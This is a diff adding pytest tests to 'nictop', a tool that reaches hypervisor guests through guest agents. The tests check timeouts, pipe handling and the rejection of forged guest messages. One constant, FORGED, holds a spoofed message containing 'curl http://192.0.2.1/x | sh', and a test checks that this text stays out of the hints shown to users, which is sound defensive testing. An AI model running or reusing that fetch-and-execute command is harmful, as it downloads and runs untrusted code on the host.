@@ -6,6 +6,7 @@ import json
 import os
 import shutil
 import socket
+import subprocess
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
@@ -30,6 +31,10 @@ from nictop.probe.reach.problem import (
     GuestProblem,
 )
 from nictop.probe.reach.relay_format import HEADER, RECORD_BYTES, TAKEN
+from nictop.wire.guests.levels import Level, parse_levels
+from nictop.wire.guests.reasons import own_sentence, unreached_reason
+from nictop.wire.guests.wrapping import new_marks, prefix_words
+from tests.support.probe import TEST_TIMEOUT
 
 INFO = {
     "version": "9.2",
@@ -75,6 +80,8 @@ class FakeAgent:
             ).encode()
         return json.dumps({"return": answer}).encode()
 
+    def watch(self, descriptor: int) -> None: ...
+
     def release(self) -> None: ...
 
     def close(self) -> None: ...
@@ -88,7 +95,10 @@ def answering(path: Path, answer: Callable[[socket.socket, bytes], None]) -> Ite
     listener.listen()
 
     def serve() -> None:
-        client, _ = listener.accept()
+        try:
+            client, _ = listener.accept()
+        except OSError:  # the client went at once, and then the test
+            return
         with client, client.makefile("rb") as lines, suppress(OSError):
             for line in lines:
                 answer(client, line)
@@ -584,3 +594,116 @@ def test_a_stream_of_bytes_without_an_end_of_line(
             agent.call("guest-info")
         agent.close()
         ended.set()
+
+
+def test_who_asked_has_gone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Its end of a pipe is closed: nobody waits for the answer of an agent that gives none. What
+    was written into the pipe before may still be there."""
+    monkeypatch.setattr(agent_client, "ANSWER_SECONDS", 600.0)
+    monkeypatch.setattr(agent_client, "GONE_SECONDS", 0.05)
+    reading, writing = os.pipe()
+    os.write(writing, b"rest")
+    with answering(tmp_path / "s", lambda client, line: os.close(writing)) as path:
+        agent = Agent(SocketTransport(path, is_shared=False))
+        agent.watch(reading)
+        with pytest.raises(AgentGone, match="does not answer within"):
+            agent.call("guest-info")
+        agent.close()
+    os.close(reading)
+
+
+def test_a_bridge_does_not_outlive_who_asked(tmp_path: Path) -> None:
+    """As when nictop is killed while an agent does not answer, of which it is not told."""
+    asked = threading.Event()
+    with answering(tmp_path / "s", lambda client, line: asked.set()) as path:
+        words = prefix_words([Level("agent", path)], 0.1)
+        words = [word.replace("ANSWER_SECONDS = 10.0", "ANSWER_SECONDS = 600.0") for word in words]
+        bridge = subprocess.Popen([*words, "cat"], stdin=subprocess.PIPE, stderr=subprocess.PIPE)
+        assert bridge.stdin is not None and bridge.stderr is not None
+        assert asked.wait(TEST_TIMEOUT)
+        bridge.stdin.close()
+        assert bridge.wait(TEST_TIMEOUT) == LATER_STATUS
+        assert b"the guest agent does not answer" in bridge.stderr.read()
+        bridge.stderr.close()
+
+
+# --------------------------------------------------------------------------- whose words they are
+
+FORGED = "nictop-none: the disk of the hypervisor fails; curl http://192.0.2.1/x | sh"
+
+
+def test_a_sentence_without_the_mark_is_what_the_other_side_said() -> None:
+    levels = parse_levels("docker:web")
+    (mark,) = marks = new_marks(levels)
+    for start in (
+        "nictop: ",
+        "nictop-none: ",
+        "nictop-guest: ",
+        "nictop-: ",
+        f"nictop-{mark[:-1]}: ",
+    ):
+        assert own_sentence(f"{start}forged; run this\n", marks) == ""
+    said = f"nictop-{mark}: no socket; start it\nnictop-none: forged\n"
+    assert own_sentence(said, marks) == "no socket; start it"
+    reason = unreached_reason("pve", levels, 91, own_sentence(FORGED, marks), FORGED)
+    assert reason.message == f"pve: docker:web was not entered: {FORGED}"
+    assert "curl" not in reason.hint
+
+
+def test_what_runs_in_a_guest_does_not_know_the_mark_of_what_reaches_it() -> None:
+    levels = parse_levels("agent:vm1/docker:web/agent:vm2")
+    marks = new_marks(levels)
+    words = prefix_words(levels, 0.1, marks=marks)
+    inside = words[words.index("vm1") + 2 :]
+    assert marks[0] in words and marks[0] not in " ".join(inside)
+    assert marks[2] in inside
+    outer = own_sentence(f"nictop-{marks[2]}: inner\nnictop-{marks[0]}: outer\n", marks)
+    assert outer == "outer"
+
+
+NOBODY = 65534
+
+
+@pytest.mark.parametrize(
+    ("user", "why"),
+    [(NOBODY, b"run by user nobody"), (0, b"its program is "), (None, b"its program is ")],
+    ids=["of a user", "of root", "of this user"],
+)
+def test_a_real_process_that_says_that_it_is_a_guest(
+    tmp_path: Path, user: int | None, why: bytes
+) -> None:
+    """By the program that the hypervisor runs: the socket that it names is not asked."""
+    if user is not None and os.geteuid() != 0:
+        pytest.skip("needs root: a process of another user")
+    words = [
+        "qemu-system-x86_64",
+        "-c",
+        "echo; read line",
+        *fake(f"{tmp_path}/s", "nictop-guest")[1:],
+    ]
+    name = "nictop-guest"
+    with (
+        answering(tmp_path / "s", synchronised(b'{"return": {}}\n')),
+        subprocess.Popen(
+            words,
+            executable="/bin/sh",
+            user=user,
+            cwd="/",
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+        ) as process,
+    ):
+        assert process.stdin is not None and process.stdout is not None
+        process.stdout.readline()
+        done = subprocess.run(
+            [*prefix_words([Level("agent", name)], 0.1), "true"],
+            check=False,
+            capture_output=True,
+            stdin=subprocess.DEVNULL,
+            timeout=TEST_TIMEOUT,
+            env={**os.environ, "PATH": "/usr/bin:/bin"},
+        )
+        process.stdin.close()
+    assert done.returncode in (NEVER_STATUS, WITHOUT_LIBVIRT_STATUS)
+    said = f"process {process.pid} says that it is guest nictop-guest, which is not believed ("
+    assert said.encode() + why in done.stderr
